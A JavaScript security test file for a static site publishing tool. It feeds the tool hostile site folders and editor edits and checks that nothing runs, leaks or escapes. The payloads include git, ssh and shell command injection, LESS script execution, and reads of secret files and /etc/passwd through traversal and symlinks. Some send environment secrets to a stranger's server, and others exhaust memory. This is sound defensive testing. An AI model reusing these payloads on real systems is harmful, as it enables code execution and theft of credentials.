// Item 4: a site's folder is never a program. What a stranger gives, `check`, `build` and `publish` read, and nothing more.
import fs from "node:fs";
import path from "node:path";
import { run } from "../lib/process.mjs";
import { found } from "../lib/say.mjs";
import { files } from "../lib/site.mjs";
import { listen } from "../lib/listen.mjs";
import { startStorage } from "../lib/storage.mjs";
import { until } from "../lib/world.mjs";

const EVERY = { verbs: ["check", "build", "publish"] };

const SECRET = "topsecret-8d1f0c";
/** The most memory in KiB that reading a hostile folder may take, and how long. */
const MOST_KIB = 700_000;
const LONGEST_MS = 60_000;
/** Everything counts. */
const NOTHING = /^$/;

const site = (more) => ({ website: { id: "small", siteTitle: "A small site", locale: "en-US", baseUrl: "https://small.example" }, ...more });
const page = (more) => ({ title: "Welcome", urlId: "home", typeName: "page", mainContent: "<p>Hello.</p>", ...more });
const layout = (body) => `<!doctype html>\n<html lang="en">\n<head>{squarespace-headers}</head>\n<body>\n${body}\n{squarespace-footers}\n</body>\n</html>\n`;

/** Whether a folder holds the secret anywhere, also inside of files that are compressed or hidden. */
function holdsSecret(folder) {
  if (!fs.existsSync(folder)) return undefined;
  return Object.keys(files(folder, "", NOTHING)).find((name) => {
    const file = path.join(folder, name);
    return fs.lstatSync(file).isFile() && fs.readFileSync(file).includes(SECRET);
  });
}

/** What is beside the site, except what the programs were asked to write. */
function beside(folder) {
  const all = files(path.dirname(folder), "", NOTHING);
  return Object.fromEntries(Object.entries(all).filter(([name]) => !/^(site|output|output\.protected|output\.sold|published|served)\//.test(name) && !name.startsWith("output.")));
}

/** Reads a stranger's folder with every verb; nothing may run, be read or be written elsewhere. */
async function read(sites, name, content, { verbs = ["build"], prepare, listener, env = {} } = {}) {
  const folder = sites.small(name, content);
  const secret = sites.beside(folder, "secret.txt", `${SECRET}\n`);
  fs.writeFileSync(path.join(path.dirname(folder), "secret.json"), JSON.stringify({ title: SECRET, urlId: "x", excerpt: SECRET, mainContent: SECRET }));
  fs.mkdirSync(path.join(path.dirname(folder), "outside"));
  const marker = path.join(path.dirname(folder), "marker");
  prepare?.(folder, { secret, marker });
  const before = JSON.stringify(beside(folder));
  const own = files(folder);
  const said = [];
  for (const verb of verbs) {
    const to = { build: ["--out", path.join(path.dirname(folder), "output")], publish: ["--to", `dir:${path.join(path.dirname(folder), "published")}`], check: [] }[verb];
    const begun = Date.now();
    const done = await sites.loggia([verb, folder, ...to], { cwd: folder, env: { ATTACK_SECRET: SECRET, LOGGIA_PUBLISH_SECRET: `${SECRET}-0123456789-0123456789`, ...env }, timeout: LONGEST_MS });
    said.push(`${verb} ${done.signal ?? done.status}`);
    const faults = [
      done.signal && `${verb} was ended by ${done.signal} after ${Math.round((Date.now() - begun) / 1000)} s`,
      (done.status > 3 || done.status < 0 || /panicked/.test(done.stderr)) && `${verb} broke: ${done.stderr.slice(0, 160)}`,
      done.peak > MOST_KIB && `${verb} took ${Math.round(done.peak / 1024)} MB`,
      `${done.stdout}${done.stderr}`.includes(SECRET) && `${verb} says the secret`,
      fs.existsSync(marker) && `${verb} ran a program`,
      listener?.heard() > 0 && `${verb} called the stranger: ${listener.text.slice(0, 100)}`,
    ].filter(Boolean);
    if (faults.length > 0) return found(false, faults[0]);
  }
  for (const out of ["output", "output.protected", "published", "site/.loggia", "site/output"]) {
    const holder = holdsSecret(path.join(path.dirname(folder), out));
    if (holder) return found(false, `the secret stands in ${out}/${holder}`);
  }
  if (JSON.stringify(beside(folder)) !== before) return found(false, "something was written beside the site");
  const changed = Object.entries(files(folder)).find(([file, digest]) => own[file] !== digest);
  if (changed) return found(false, `the site's own ${changed[0]} was changed`);
  return found(true, said.join(", "));
}

const hostile = (name, content, options) => ({ name: `a folder with ${name}`, run: (sites) => read(sites, "hostile", typeof content === "function" ? content() : content, options) });
const less = (name, text, more = {}) => hostile(`LESS: ${name}`, { "template/site.region": layout("{squarespace.main-content}"), "template/styles/site.less": text, "template/template.conf": { stylesheets: ["site.less"] }, ...more });
const linked = (name, place, target, more = {}) => hostile(`a link: ${name}`, { [place]: { link: target }, ...more });
const template = (name, body, more = {}) => hostile(`a template: ${name}`, { "template/site.region": layout(body), ...more });

/** Edits of settings that say where the site goes: none is taken. */
function edit(name, change) {
  return {
    name: `through the editor: ${name}`,
    async run(sites) {
      const file = (await sites.owner.get("/config/api/file?path=site.json")).json;
      const written = path.join(sites.folder, "site.json");
      const before = fs.readFileSync(written, "utf8");
      const answer = await sites.owner.edit("POST", "changes", { changes: [].concat(change(file)) });
      const same = JSON.stringify(JSON.parse(fs.readFileSync(written, "utf8")).publish) === JSON.stringify(sites.publish);
      if (!same) {
        fs.writeFileSync(written, before);
        const digest = async () => (await sites.owner.get("/config/api/file?path=site.json")).json?.digest === file.digest;
        await until(digest, 5000);
      }
      return found(answer.status >= 400 && answer.status < 500 && same, `${answer.told}${same ? "" : ", and /publish is another"}`);
    },
  };
}
const edits = (list) => (file) => ({ path: "site.json", baseDigest: file.digest, edits: typeof list === "function" ? list(file.json) : list });
const evil = { run: ["touch", "/tmp/loggia-attack-marker"] };

export default {
  item: 4, on: "site",
  async prepare(sites) {
    sites.publish = { to: "here", targets: { here: { kind: "dir", path: "published" }, other: { kind: "dir", path: "other" } }, catalog: { url: "https://shop.example" } };
    sites.folder = sites.small("published", { "site.json": site({ publish: sites.publish }) });
    sites.editor = await sites.serve(sites.folder);
    sites.owner = await sites.editor.owner();
    sites.watch(sites.folder);
  },
  async finish(sites) {
    await sites.editor.close();
    sites.watched = undefined;
  },
  controls: [
    { name: "a small folder of one's own is checked, built and published", run: (sites) => read(sites, "honest", {}, EVERY) },
    {
      name: "the owner chooses another of the targets",
      async run(sites) {
        const choose = async (to, was) => {
          const file = (await sites.owner.get("/config/api/file?path=site.json")).json;
          return sites.owner.edit("POST", "changes", { changes: [{ path: "site.json", baseDigest: file.digest, edits: [{ op: "set", pointer: "/publish/to", value: to, was }] }] });
        };
        const answer = await choose("other", "here");
        await choose("here", "other");
        return found(answer.status === 200, answer.told);
      },
    },
  ],
  attacks: [
    hostile("a program in /publish/catalog/run", (at = "marker") => ({ "site.json": site({ publish: { catalog: { run: ["sh", "-c", `touch ../${at}`] } } }) }), EVERY),
    hostile("a program by its name and {catalog}", { "site.json": site({ publish: { catalog: { run: ["cp", "{catalog}", "../marker"] } } }) }, EVERY),
    hostile("a program of the environment's own: prod", { "site.json": site({ publish: { catalog: { run: ["touch", "../marker"] }, prod: { run: ["touch", "../marker"] }, hooks: ["touch ../marker"], hook: "touch ../marker", before: ["touch", "../marker"], after: ["touch", "../marker"] } }) }, EVERY),
    {
      name: "a folder whose cache address holds a value of the environment",
      async run(sites) {
        const store = await startStorage();
        try {
          const target = { kind: "s3", bucket: "b", region: "eu-1", purge: { url: `${store.base}/strange/\${ATTACK_SECRET}`, headers: { authorization: "Bearer ${ATTACK_SECRET}", "x-key": "${AWS_SECRET_ACCESS_KEY}" }, body: { key: "${ATTACK_SECRET}" } } };
          const folder = sites.small("purge", { "site.json": site({ publish: { to: "store", targets: { store: target } } }) });
          await sites.loggia(["publish", folder], { env: { ATTACK_SECRET: SECRET, AWS_ENDPOINT: store.base, AWS_ACCESS_KEY_ID: "id", AWS_SECRET_ACCESS_KEY: `${SECRET}-aws`, AWS_REGION: "eu-1", LOGGIA_PUBLISH_SECRET: "x".repeat(40) } });
          return found(!store.strange.includes(SECRET), store.strange.includes(SECRET) ? "the stranger got the secret" : `${store.count} calls, none with the secret`);
        } finally {
          await store.close();
        }
      },
    },
    {
      name: "a folder whose target is the stranger's store",
      async run(sites) {
        const store = await listen((_, response) => {
          response.statusCode = 404;
          response.end();
        });
        try {
          const targets = { store: { kind: "s3", bucket: "b", region: "eu-1", endpoint: store.base, accessKey: "${ATTACK_SECRET}", url: `${store.base}/\${ATTACK_SECRET}` } };
          const folder = sites.small("target", { "site.json": site({ publish: { to: "store", targets } }) });
          await sites.loggia(["publish", folder], { env: { ATTACK_SECRET: SECRET, AWS_ACCESS_KEY_ID: SECRET, AWS_SECRET_ACCESS_KEY: SECRET, AWS_REGION: "eu-1", LOGGIA_PUBLISH_SECRET: "x".repeat(40) } });
          return found(!store.text.includes(SECRET), `${store.calls.length} calls`);
        } finally {
          await store.close();
        }
      },
    },
    hostile("Git settings that run a program", { ".git/config": "[core]\n\tfsmonitor = touch ../marker\n\thooksPath = hooks\n\tpager = touch ../marker\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/post-checkout": "#!/bin/sh\ntouch ../marker\n" }, { ...EVERY, prepare: (folder) => fs.chmodSync(path.join(folder, ".git/hooks/post-checkout"), 0o755) }),
    hostile("a repository whose address runs a program", { "site.json": site({ publish: { to: "a", targets: { a: { kind: "git", remote: "ext::sh -c touch% ../marker" } } } }) }, EVERY),
    hostile("a repository whose address is an option", { "site.json": site({ publish: { to: "a", targets: { a: { kind: "git", remote: "--upload-pack=touch ../marker;" } } } }) }, EVERY),
    hostile("a server whose host is an option", { "site.json": site({ publish: { to: "a", targets: { a: { kind: "ssh", host: "-oProxyCommand=touch ../marker", path: "/srv/www" } } } }) }, EVERY),
    hostile("a server whose folder is a line", { "site.json": site({ publish: { to: "ssh:shop.example:/srv/'; touch ../marker; '", targets: {} } }) }, EVERY),
    hostile("packages and tools of its own", { "package.json": { scripts: { postinstall: "touch ../marker", build: "touch ../marker" } }, "node_modules/.bin/lessc": "#!/bin/sh\ntouch ../marker\n", "Makefile": "all:\n\ttouch ../marker\n", ".env": "LOGGIA_RUN=touch ../marker\n" }, EVERY),
    less("a file of the machine, inline", '@import (inline) "../../../secret.txt";\n'),
    less("a file of the machine, as a style sheet", '@import "../../../secret.txt";\n@import "/etc/passwd";\n'),
    less("a file of the machine as data", 'body { background: data-uri("../../../secret.txt"); }\n'),
    less("a plugin", '@plugin "plugin.js";\nbody { color: red; }\n', { "template/styles/plugin.js": "require('fs').writeFileSync('../marker','x'); registerPlugin({install(){ }})" }),
    less("a script between backticks", "@x: `require('child_process').execSync('touch ../marker')`;\n@y: `process.env.ATTACK_SECRET`;\nbody { content: @y; width: @x; }\n"),
    less("a mixin that calls itself for ever", ".loop(@n) { .loop(@n + 1); }\nbody { .loop(0); }\n"),
    less("a list that doubles thirty times", `@a0: x;\n${Array.from({ length: 30 }, (_, n) => `@a${n + 1}: @a${n} @a${n};`).join("\n")}\nbody { --x: @a30; }\n`),
    less("nested a hundred thousand times", `${"a{".repeat(100_000)}${"}".repeat(100_000)}`),
    {
      name: "a folder with LESS: an import from the stranger's server",
      async run(sites) {
        const listener = await listen();
        try {
          return await read(sites, "hostile", { "template/site.region": layout("{squarespace.main-content}"), "template/template.conf": { stylesheets: ["site.less"] }, "template/styles/site.less": `@import (less) "${listener.base}/x.less";\n@import url(${listener.base}/y.css);\nbody { color: red; }\n` }, { listener });
        } finally {
          await listener.close();
        }
      },
    },
    template("a partial of the machine", "{@|apply ../../../secret.txt}{@|apply /etc/passwd}{squarespace.main-content}"),
    template("partials that name each other for ever", "{@|apply a.block}{squarespace.main-content}", { "template/blocks/a.block": "{@|apply b.block}", "template/blocks/b.block": "{@|apply a.block}" }),
    template("a partial that doubles thirty times", "{@|apply p0.block}{squarespace.main-content}", Object.fromEntries(Array.from({ length: 31 }, (_, n) => [`template/blocks/p${n}.block`, n === 30 ? "x" : `{@|apply p${n + 1}.block}{@|apply p${n + 1}.block}`]))),
    template("sections a hundred thousand deep", `${"{.section a}".repeat(100_000)}${"{.end}".repeat(100_000)}`),
    template("lists within lists, 40^6 times", `${"{.repeated section collection.many}".repeat(6)}x${"{.end}".repeat(6)}`, { "content/home/collection.json": page({ many: Array.from({ length: 40 }, () => ({ collection: {} })) }) }),
    template("an expression that grows for ever", `{.eval a = "xxxxxxxxxxxxxxxx"}${"{.eval a = a + a}".repeat(40)}{a}`),
    template("names of the environment and of files", "{env.ATTACK_SECRET}{process.env.ATTACK_SECRET}{ATTACK_SECRET}{.include ../../../secret.txt}{squarespace.main-content}"),
    hostile("Markdown of quotes a hundred thousand deep", { "content/blog/collection.json": { title: "Blog", urlId: "blog", typeName: "blog" }, "content/blog/a.md": `---\n{"title": "A", "urlId": "a"}\n---\n${">".repeat(100_000)} x\n` }),
    hostile("Markdown of open brackets", { "content/blog/collection.json": { title: "Blog", urlId: "blog", typeName: "blog" }, "content/blog/a.md": `---\n{"title": "A", "urlId": "a"}\n---\n${"[".repeat(100_000)}\n${"![a](".repeat(50_000)}\n${"*_".repeat(100_000)}\n` }),
    hostile("JSON a million brackets deep", { "content/home/collection.json": `{"title": "Welcome", "urlId": "home", "typeName": "page", "x": ${"[".repeat(1_000_000)}${"]".repeat(1_000_000)}}` }),
    hostile("JSON that is no text, and numbers of a million digits", { "content/a/collection.json": Buffer.from([0xff, 0xfe, 0x00, 0x7b]), "content/b/collection.json": `{"title": "B", "urlId": "b", "typeName": "page", "ordering": ${"9".repeat(1_000_000)}}` }),
    ...["../../evil", "..", "../../../../tmp/loggia-attack-evil", "/etc/loggia-attack-evil", "a/../../../evil", "a\\..\\..\\evil", "%2e%2e/%2e%2e/evil", "_data", "assets", ".htaccess", "a\u0000b", "a\n/* https://evil.example 301"].map((urlId) =>
      hostile(`a page at ${JSON.stringify(urlId)}`, { "content/evil/collection.json": { title: "Evil", urlId, typeName: "page", mainContent: "<p>x</p>" } })),
    hostile("a language named ../../evil", { "site.json": site({ website: { id: "small", siteTitle: "A", locale: "en-US", baseUrl: "https://small.example", languages: ["en-US", "../../evil"] } }) }),
    linked("a page", "content/blog/a.md", "../../../secret.txt", { "content/blog/collection.json": { title: "Blog", urlId: "blog", typeName: "blog" } }),
    linked("an item", "content/blog/a.json", "../../../secret.json", { "content/blog/collection.json": { title: "Blog", urlId: "blog", typeName: "blog" } }),
    linked("a file of the site", "files/secret.txt", "../../secret.txt"),
    linked("a picture of the site", "files/secret.jpg", "../../secret.txt"),
    linked("a folder of files that is the machine's root", "files", "/"),
    linked("a folder of files that is the folder above", "files/up", "../.."),
    linked("a folder that holds itself", "content/loop", "."),
    linked("a template's block", "template/blocks/x.block", "../../../secret.txt", { "template/site.region": layout("{@|apply x.block}{squarespace.main-content}") }),
    linked("a style sheet", "template/styles/site.css", "../../../secret.txt", { "template/site.region": layout("{squarespace.main-content}"), "template/template.conf": { stylesheets: ["site.css"] } }),
    linked("an asset of the template", "template/assets/x.txt", "../../../secret.txt", { "template/site.region": layout("{squarespace.main-content}") }),
    linked("a form", "forms/x.json", "../../secret.json"),
    linked("a translation", "languages/fr-FR", "../..", { "site.json": site({ website: { id: "small", siteTitle: "A", locale: "en-US", baseUrl: "https://small.example", languages: ["en-US", "fr-FR"] } }) }),
    linked("the folder the program keeps for itself", ".loggia", "../outside"),
    linked("a device without end", "files/zero.png", "/dev/zero"),
    hostile("a pipe that nobody writes into", {}, { prepare: (folder) => {
      fs.mkdirSync(path.join(folder, "files"), { recursive: true });
      run("mkfifo", [path.join(folder, "files/pipe.png")]);
      fs.mkdirSync(path.join(folder, "content/pipe"), { recursive: true });
      run("mkfifo", [path.join(folder, "content/pipe/collection.json")]);
    } }),
    hostile("names with line ends, quotes and dashes", { "files/-rf": "x", "files/a\nb.txt": "x", "files/a\"b'.txt": "x", "files/$(touch marker).txt": "x", "files/`touch marker`.txt": "x", "files/;touch marker;.txt": "x" }),
    edit("another program after publishing", edits([{ op: "set", pointer: "/publish/catalog", value: evil, was: { url: "https://shop.example" } }])),
    edit("a program beside the address", edits([{ op: "set", pointer: "/publish/catalog/run", value: evil.run }])),
    edit("another target", edits([{ op: "set", pointer: "/publish/targets/new", value: { kind: "dir", path: "/tmp/loggia-attack-out" } }])),
    edit("a target's folder", edits([{ op: "set", pointer: "/publish/targets/here/path", value: "/tmp/loggia-attack-out", was: "published" }])),
    edit("all of /publish", edits((now) => [{ op: "set", pointer: "/publish", value: { catalog: evil }, was: now.publish }])),
    edit("/publish taken away", edits((now) => [{ op: "remove", pointer: "/publish", was: now.publish }])),
    edit("/publish moved elsewhere", edits((now) => [{ op: "move", from: "/publish", pointer: "/kept", was: now.publish }])),
    edit("something moved into /publish", edits([{ op: "set", pointer: "/x", value: evil }, { op: "move", from: "/x", pointer: "/publish/later", was: evil }])),
    edit("the whole document by the empty pointer", edits((now) => [{ op: "set", pointer: "", value: site({ publish: { catalog: evil } }), was: now }])),
    edit("the whole file as JSON", (file) => ({ path: "site.json", baseDigest: file.digest, json: site({ publish: { catalog: evil } }) })),
    edit("the whole file as text", (file) => ({ path: "site.json", baseDigest: file.digest, text: JSON.stringify(site({ publish: { catalog: evil } })) })),
    edit("the file taken away and made anew", (file) => [{ path: "site.json", baseDigest: file.digest, delete: true }, { path: "site.json", baseDigest: null, json: site({ publish: { catalog: evil } }) }]),
    edit("another file that takes its name", () => ({ path: "content/home/collection.json", baseDigest: "x", renameTo: "site.json" })),
    edit("the name written otherwise", (file) => ({ path: "./site.json", baseDigest: file.digest, edits: [{ op: "set", pointer: "/publish/catalog", value: evil }] })),
    edit("the name through another folder", (file) => ({ path: "content/../site.json", baseDigest: file.digest, edits: [{ op: "set", pointer: "/publish/catalog", value: evil }] })),
    edit("to a target spelled out", edits([{ op: "set", pointer: "/publish/to", value: "dir:/tmp/loggia-attack-out", was: "here" }])),
    edit("a second member of the same name in a text", (file) => ({ path: "site.json", baseDigest: file.digest, text: `{"publish": ${JSON.stringify(sitesPublish)}, "website": {"id": "small", "siteTitle": "A"}, "publish": {"catalog": {"run": ["touch", "/tmp/loggia-attack-marker"]}}}` })),
    ...["dir:/tmp/loggia-attack-out", "dir:../../out", "s3:evil/x", "netlify:evil"].map((to) => ({
      name: `through the editor: publishing to ${to}`,
      async run(sites) {
        const answer = await sites.owner.edit("POST", "publish", { dryRun: false, to });
        const wrote = fs.existsSync("/tmp/loggia-attack-out");
        if (wrote) fs.rmSync("/tmp/loggia-attack-out", { recursive: true, force: true });
        return found(!wrote && (answer.status >= 400 || /"error"|"failed"|refused/i.test(answer.text)), `${answer.told} ${answer.text.slice(0, 90)}`);
      },
    })),
  ],
};
const sitesPublish = { to: "here" };
